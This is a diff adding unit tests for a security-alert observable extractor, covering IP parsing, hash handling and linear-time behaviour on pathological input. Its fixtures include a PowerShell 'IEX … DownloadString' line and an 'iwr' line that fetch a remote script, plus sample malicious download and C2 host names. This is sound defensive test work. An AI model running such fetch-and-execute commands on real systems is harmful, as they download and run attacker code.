@@ -212,4 +212,102 @@ describe('extractObservables', () => {
     expect(performance.now() - t).toBeLessThan(1000);
     expect(values(obs, 'ipv4')).toEqual(['8.8.8.8']);
   });
+
+  it('a browser version in a user agent is not an IPv4 (Chrome/131.0.0.0), in a field or in free text', () => {
+    const ua =
+      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
+    const obs = extractObservables(
+      alert({
+        description: `198.51.100.23 - - [01/Jan/2025] "GET /wp-login.php HTTP/1.1" 200 512 "-" "${ua}" Version/17.4.1.0`,
+        raw: { http: { http_user_agent: ua }, user_agent: { original: ua }, src: '203.0.113.9' },
+      }),
+    );
+    expect(values(obs, 'ipv4')).toEqual(['198.51.100.23', '203.0.113.9']);
+    // A real address after a slash-free separator is still found.
+    expect(values(extractObservables(alert({ description: 'src=8.8.8.8/32 via 1.1.1.1,' })), 'ipv4')).toEqual(
+      ['8.8.8.8', '1.1.1.1'],
+    );
+  });
+
+  it('takes typed signals first: addresses, URL, host name asked for and hashes as the normalizer read them', () => {
+    const obs = extractObservables(
+      alert({
+        signals: {
+          network: {
+            src_ip: '185.220.101.52',
+            url: 'http://dl.example-bad.com/a.exe',
+            hostname: 'c2.example-bad.net',
+            user_agent: 'curl/8.4.0.1',
+          },
+          file: { hashes: [{ algorithm: 'sha256', value: SHA256 }] },
+          process: { hashes: [{ algorithm: 'md5', value: MD5 }] },
+          script: { text: 'IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.7/p.ps1")' },
+          provenance: {},
+        },
+      }),
+      { maxObservables: 6 },
+    );
+    expect(obs.map((o) => `${o.type}:${o.value}`)).toEqual([
+      'ipv4:185.220.101.52',
+      'url:http://dl.example-bad.com/a.exe',
+      'domain:dl.example-bad.com',
+      'domain:c2.example-bad.net',
+      `md5:${MD5}`,
+      `sha256:${SHA256}`,
+    ]);
+    // The script text is scanned too (after the typed fields); the user agent never is.
+    const all = extractObservables(
+      alert({
+        signals: {
+          script: { text: 'iwr http://198.51.100.7/p.ps1' },
+          network: { user_agent: 'x/1.2.3.4' },
+          provenance: {},
+        },
+      }),
+    );
+    expect(values(all, 'ipv4')).toEqual(['198.51.100.7']);
+  });
+
+  it("an IMPHASH is not a file's hash", () => {
+    const obs = extractObservables(
+      alert({ raw: { hashes: `MD5=${MD5.toUpperCase()},IMPHASH=${'b'.repeat(31)}c` } }),
+    );
+    expect(values(obs, 'md5')).toEqual([MD5]);
+  });
+
+  it('is linear on hostile text: each worst input costs a bounded multiple of a plain one of the same size', () => {
+    const N = 64 * 1024;
+    const fill = (unit: string) => unit.repeat(Math.ceil(N / unit.length)).slice(0, N);
+    const plain = fill('user alice logged in from 10.1.2.3 to https://intranet.example.com/home ok. ');
+    const hostile: Record<string, string> = {
+      // The 80-second case: a URL whose end is a run of closing brackets to trim one by one.
+      'closing brackets after a URL': `http://a.com/${')'.repeat(N)}`,
+      'unbalanced brackets': `http://a.com/${'(]'.repeat(N / 2)}`,
+      'dotted labels': fill('a.'),
+      'dotted digits': fill('1.'),
+      'colon groups': fill('1:'),
+      'email-like runs': fill('a.a@'),
+      'at signs': fill('a@'),
+      'scheme runs': fill('http://'),
+      'defanged dots': fill('[.]'),
+      'hex run': fill('f'),
+      'hyphen labels': fill('a-'),
+      'ipv4 runs': fill('1.2.3.4.'),
+    };
+    const time = (text: string): number => {
+      let best = Number.POSITIVE_INFINITY;
+      for (let i = 0; i < 5; i++) {
+        const start = performance.now();
+        extractObservables(alert({ description: text }));
+        best = Math.min(best, performance.now() - start);
+      }
+      return best;
+    };
+    const base = Math.max(time(plain), 0.2);
+    const ratios = Object.entries(hostile).map(([name, text]) => [name, time(text) / base] as const);
+    const worst = ratios.reduce((x, y) => (y[1] > x[1] ? y : x));
+    console.log(`[extract hostile] worst: ${worst[0]}, ${worst[1].toFixed(2)}x a plain 64 KB text`);
+    // Quadratic trimming cost about 80 s here, i.e. tens of thousands of times a plain text.
+    for (const [name, r] of ratios) expect(r, `${name}: ${r.toFixed(1)}x`).toBeLessThan(20);
+  });
 });
